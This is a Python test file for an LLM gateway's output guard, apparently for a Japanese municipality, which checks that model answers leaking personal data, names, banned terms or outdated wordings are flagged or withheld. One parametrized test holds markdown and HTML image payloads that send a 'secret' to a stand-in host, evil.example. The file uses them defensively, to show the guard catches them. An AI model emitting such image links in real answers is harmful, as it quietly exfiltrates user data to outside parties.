"""The guard on answers: the same findings whatever pieces an answer comes in, in linear work, and nothing past a gate."""

import json
import random
from collections import Counter
from dataclasses import dataclass, field
from typing import Any

import pytest

from gateway.guard.answers import HANDOVER, WITHHELD, AnswerRules, AnswerWatch, Asked
from gateway.guard.findings import Finding, Kind
from gateway.guard.fold import Folded
from gateway.guard.wordings import AS_OF, WORDINGS, find_wordings

FILLER = "防災訓練は、十一月の第三日曜日に行います。雨のときは体育館に集まってください。\n"
FOUND = {
    "090-1234-5678": Kind.PHONE,
    "1234 5678 9018": Kind.MY_NUMBER,
    "taro@example.com": Kind.EMAIL,
    "神奈川県横須賀市小川町11番地": Kind.ADDRESS,
    "ｱｻｶﾞｵ計画": Kind.NG_WORD,
    "痴呆の相談": Kind.WORDING,
}


def rules(action: Any = "warn", **more: Any) -> AnswerRules:
    return AnswerRules(action, ng_words=("アサガオ計画",), **more)


def streamed(watch: AnswerWatch, pieces: list[str], finish: str = "stop") -> tuple[str, list[dict[str, Any]]]:
    """The text that went on and every event's payload, the last one with the finish reason."""
    events = [{"choices": [{"index": 0, "delta": {"content": p}, "finish_reason": None}]} for p in pieces]
    events.append({"choices": [{"index": 0, "delta": {}, "finish_reason": finish}]})
    passed = []
    for event in events:
        made = watch.event(b"data: " + json.dumps(event, ensure_ascii=False).encode() + b"\n\n")
        if made:
            passed.append(json.loads(made.removeprefix(b"data: ")))
        if watch.is_over:
            break
    text = "".join(c["delta"].get("content") or "" for p in passed for c in p["choices"])
    return text, passed


def cut(text: str, seed: int) -> list[str]:
    rng = random.Random(seed)
    pieces, at = [], 0
    while at < len(text):
        size = rng.choice((1, 1, 2, 3, 7, 40))
        pieces.append(text[at : at + size])
        at += size
    return pieces


@pytest.mark.parametrize("seed", range(12))
def test_each_is_found_once_wherever_the_answer_is_cut(seed: int) -> None:
    rng = random.Random(seed)
    parts = [FILLER * rng.randrange(0, 14) + found + "です。" for found in FOUND]
    rng.shuffle(parts)
    text = "".join(parts)
    watch = AnswerWatch(rules(), choices=1)
    passed, events = streamed(watch, cut(text, seed))
    assert passed == text
    assert watch.counts == Counter(FOUND.values())
    [note] = events[-1]["kumiai"]["answer_guard"]
    assert {f["kind"]: f["count"] for f in note["findings"]} == {k.value: 1 for k in FOUND.values()}
    assert (note["action"], note["index"]) == ("warn", 0)
    assert "認知症" in note["reasons"][0]


def test_for_staff_nothing_is_held_up_and_nothing_added_but_a_note() -> None:
    watch = AnswerWatch(rules(), choices=1)
    for piece in cut(FILLER * 40 + "090-1234-5678", 3):
        event = b'data: {"choices":[{"index":0,"delta":{"content":%s}}]}\n\n' % json.dumps(piece).encode()
        assert watch.event(event) is event
    clean = AnswerWatch(rules(), choices=1)
    last = b'data: {"choices":[{"index":0,"delta":{},"finish_reason":"stop"}]}\n\n'
    assert clean.event(last) is last
    assert b"phone" in watch.event(last)


@pytest.mark.parametrize("found", FOUND)
@pytest.mark.parametrize("seed", range(6))
def test_residents_get_whole_sentences_up_to_the_one_that_is_withheld(found: str, seed: int) -> None:
    before = FILLER * 3
    watch = AnswerWatch(rules("withhold"), choices=1)
    passed, events = streamed(watch, cut(f"{before}担当は{found}です。{FILLER}", seed))
    assert passed == before + HANDOVER
    assert events[-1]["choices"][0]["finish_reason"] == WITHHELD
    assert events[-1]["kumiai"]["answer_guard"][0]["action"] == "withhold"
    assert watch.is_over


@pytest.mark.parametrize("seed", range(6))
def test_residents_get_all_of_an_answer_in_which_nothing_is_found(seed: int) -> None:
    text = FILLER * 20 + "句点のない長い文" * 300 + "\n1\n2\n3"
    watch = AnswerWatch(rules("withhold"), choices=1)
    passed, events = streamed(watch, cut(text, seed), finish="length")
    assert passed == text
    assert events[-1]["choices"][0]["finish_reason"] == "length"
    assert "kumiai" not in events[-1]


def test_a_number_on_two_lines_is_withheld_from_its_first_digit() -> None:
    watch = AnswerWatch(rules("withhold"), choices=1)
    passed, _ = streamed(watch, list("番号です。\n1234\n5678\n9018です。"))
    assert passed == "番号です。\n" + HANDOVER


def test_residents_get_nothing_in_a_form_that_nobody_read() -> None:
    watch = AnswerWatch(rules("withhold"), choices=1)
    event = {
        "choices": [
            {
                "index": 0,
                "delta": {
                    "content": "はい。",
                    "reasoning": "090-1234-5678",
                    "parts": [{"text": "090-1234-5678"}],
                    "tool_calls": [{"index": 0, "id": "c", "function": {"name": "f", "arguments": '{"to":"090-12'}}],
                },
                "logprobs": {"content": [{"token": "090-1234-5678"}]},
                "finish_reason": None,
            }
        ]
    }
    made = watch.event(b"data: " + json.dumps(event).encode() + b"\n\n")
    assert "はい。" in json.loads(made[5:])["choices"][0]["delta"]["content"]
    assert b"090" not in made
    rest = {"tool_calls": [{"index": 0, "function": {"arguments": '34-5678"}'}}]}
    last = {"choices": [{"index": 0, "delta": rest, "finish_reason": "tool_calls"}]}
    made = watch.event(b"data: " + json.dumps(last).encode() + b"\n\n")
    assert b"5678" not in made
    [choice] = json.loads(made[5:])["choices"]
    assert choice["delta"] == {"content": HANDOVER}


def test_arguments_of_tools_reach_the_caller_whole() -> None:
    watch = AnswerWatch(rules("withhold"), choices=1)
    arguments = '{"day": "十一月"}'
    got = ""
    for i, piece in enumerate([*arguments, ""]):
        delta = {"tool_calls": [{"index": 0, "function": {"arguments": piece}}]} if piece else {}
        finish = "tool_calls" if i == len(arguments) else None
        event = {"choices": [{"index": 0, "delta": delta, "finish_reason": finish}]}
        made = json.loads(watch.event(b"data: " + json.dumps(event).encode() + b"\n\n")[5:])
        got += "".join(c["function"]["arguments"] for c in made["choices"][0]["delta"].get("tool_calls") or ())
    assert got == arguments


def test_another_choice_goes_on_when_one_is_withheld() -> None:
    watch = AnswerWatch(rules("withhold"), choices=2)
    texts = {0: "090-1234-5678です。", 1: "体育館です。"}
    got = {0: "", 1: ""}
    for at in range(20):
        for index, text in texts.items():
            choice = {"index": index, "delta": {"content": text[at : at + 1]}, "finish_reason": None}
            if at == 19:
                choice["finish_reason"] = "stop"
            made = watch.event(b"data: " + json.dumps({"choices": [choice]}).encode() + b"\n\n")
            for passed in json.loads(made[5:])["choices"] if made else ():
                got[passed["index"]] += passed["delta"].get("content") or ""
    assert got == {0: HANDOVER, 1: "体育館です。"}
    assert not watch.is_over


def test_a_whole_answer_is_read_the_same_way() -> None:
    text = FILLER * 400 + "090-1234-5678です。"
    body = json.dumps({"choices": [{"index": 0, "message": {"content": text}, "finish_reason": "stop"}]}).encode()
    told = json.loads(AnswerWatch(rules(), choices=1).body(body))
    assert told["choices"][0]["message"]["content"] == text
    assert told["kumiai"]["answer_guard"][0]["findings"] == [{"kind": "phone", "label": "電話番号", "count": 1}]
    [kept] = json.loads(AnswerWatch(rules("withhold"), choices=1).body(body))["choices"]
    assert kept["message"]["content"] == FILLER * 400 + HANDOVER
    assert kept["finish_reason"] == WITHHELD
    clean = b'{"choices":[{"message":{"content":"x"}}]}'
    assert AnswerWatch(rules(), choices=1).body(clean) is clean


@dataclass(frozen=True, slots=True)
class Counting(AnswerRules):
    """Counts the characters that are read."""

    read: list[int] = field(default_factory=list)

    def find(self, text: str) -> tuple[Finding, ...]:
        self.read.append(len(text))
        return AnswerRules.find(self, text)


@pytest.mark.parametrize("action", ["warn", "withhold"])
@pytest.mark.parametrize("piece", ["1-", "\n1", "番", "。", "番号です。\n"])
def test_what_is_read_grows_with_the_answer_alone(action: Any, piece: str) -> None:
    counting = Counting(action)
    text = piece * 6_000
    passed, _ = streamed(AnswerWatch(counting, choices=1), [text[i : i + 3] for i in range(0, len(text), 3)])
    assert passed == text
    # By whole sentences, each with what stands before it: some hundred characters for a short one.
    assert sum(counting.read) <= 220 * max(1, text.count("。")) + 4 * len(text)


# ── names ────────────────────────────────────────────────────────────────────────────────────────────────────────

NAMED = "申請したのは山田太郎さんです。"


def question(text: str) -> Asked:
    return Asked({"messages": [{"role": "system", "content": "町の案内係です。"}, {"role": "user", "content": text}]})


@pytest.mark.parametrize("seed", range(6))
def test_residents_get_no_name_that_was_not_asked_about(seed: int) -> None:
    watch = AnswerWatch(rules("withhold", names=question("だれが申請しましたか")), choices=1)
    passed, events = streamed(watch, cut(FILLER * 3 + NAMED + FILLER, seed))
    assert passed == FILLER * 3 + HANDOVER
    assert watch.counts == Counter([Kind.NAME])
    assert events[-1]["choices"][0]["finish_reason"] == WITHHELD


@pytest.mark.parametrize("written", ["山田太郎の申請は届きましたか", "山田　太郎です。申請は届きましたか"])
def test_who_was_asked_about_may_be_named(written: str) -> None:
    watch = AnswerWatch(rules("withhold", names=question(written)), choices=1)
    assert streamed(watch, list(FILLER + NAMED))[0] == FILLER + NAMED
    assert not watch.counts


def test_whom_the_town_itself_names_may_be_named() -> None:
    published = rules("withhold", names=question("町長はだれですか"), public=frozenset({"山田 太郎"}))
    assert streamed(AnswerWatch(published, choices=1), list(NAMED))[0] == NAMED


@pytest.mark.parametrize("seed", range(6))
def test_staff_are_told_of_names_where_a_town_counts_them(seed: int) -> None:
    text = FILLER * 20 + NAMED + FILLER * 20 + "窓口は鈴木花子様が待つ。" + FILLER * 20
    watch = AnswerWatch(rules(names=question("鈴木花子様への返事")), choices=1)
    passed, events = streamed(watch, cut(text, seed))
    assert passed == text
    [note] = events[-1]["kumiai"]["answer_guard"]
    assert note["findings"] == [{"kind": "name", "label": "氏名", "count": 1}]
    unasked = AnswerWatch(rules(), choices=1)
    streamed(unasked, cut(text, seed))
    assert not unasked.counts


def test_what_weighs_a_call_is_no_finding_of_an_answer() -> None:
    text = "横須賀市小川町11番地の方はうつ病で、山田太郎さんも統合失調症です。"
    watch = AnswerWatch(rules(names=question("山田太郎さんの統合失調症")), choices=1)
    streamed(watch, list(text))
    assert watch.counts == Counter([Kind.ADDRESS])


# ── images ───────────────────────────────────────────────────────────────────────────────────────────────────────


@pytest.mark.parametrize(
    "image",
    [
        "![図](https://evil.example/p.png?q=secret)",
        "![](//evil.example/p?q=secret)",
        "![図]( <https://evil.example/secret>)",
        "![図][1]",
        '<img width="1" src="https://evil.example/secret">',
        "<IMG SRC=//evil.example/secret>",
    ],
)
@pytest.mark.parametrize("seed", range(3))
def test_residents_get_no_image_that_tells_somebody_elsewhere(image: str, seed: int) -> None:
    watch = AnswerWatch(rules("withhold"), choices=1)
    passed, events = streamed(watch, cut(f"{FILLER}図です{image}。", seed))
    assert passed.startswith(FILLER)
    assert "evil" not in passed
    assert "[1]" not in passed
    assert events[-1]["choices"][0]["finish_reason"] == WITHHELD
    told = AnswerWatch(rules(), choices=1)
    assert streamed(told, cut(f"{FILLER}図です{image}。", seed))[0] == f"{FILLER}図です{image}。"
    assert told.counts == Counter([Kind.REMOTE_IMAGE])


def test_a_link_and_a_table_are_no_image() -> None:
    text = "[町のページ](https://www.example.lg.jp/)をご覧ください。すごい![笑]。<br>a < b // c\n"
    watch = AnswerWatch(rules(), choices=1)
    assert streamed(watch, list(text))[0] == text
    assert not watch.counts


# ── wordings ─────────────────────────────────────────────────────────────────────────────────────────────────────


def test_every_wording_says_what_is_written_instead_and_who_decided_it() -> None:
    assert len({w.word for w in WORDINGS}) == len(WORDINGS)
    for w in WORDINGS:
        [found] = find_wordings(Folded(f"この{w.word}について"))
        assert w.instead in found.reason
        assert w.source[:2] in ("昭和", "平成", "令和")
        assert not list(find_wordings(Folded(w.instead)))
    assert AS_OF.year >= 2026
    assert [w.word for w in WORDINGS if not w.is_confirmed] == ["保母"]
    [found] = find_wordings(Folded("保母の募集"))
    assert "出典は未確認" in found.reason


def test_the_longer_of_two_wordings_is_meant() -> None:
    [found] = find_wordings(Folded("準禁治産者の届出"))
    assert "「準禁治産」は「保佐」と書きます" in found.reason


def test_words_that_only_look_like_one_are_left_alone() -> None:
    for text in ("機器の不具合を直す", "どのくらい病院に通うか", "ページをめくらない", "郷土人形"):
        assert not list(find_wordings(Folded(text)))
    assert len(list(find_wordings(Folded("不具合と不具")))) == 1


def test_a_town_adds_words_of_its_own() -> None:
    first, second = find_wordings(Folded("ご父兄と弊町"), ("父兄→保護者", "弊町"))
    assert first.reason == "「父兄」は「保護者」と書きます（町が決めた言い換え）。"
    assert second.reason == "「弊町」は、町が使わないと決めた言葉です。"
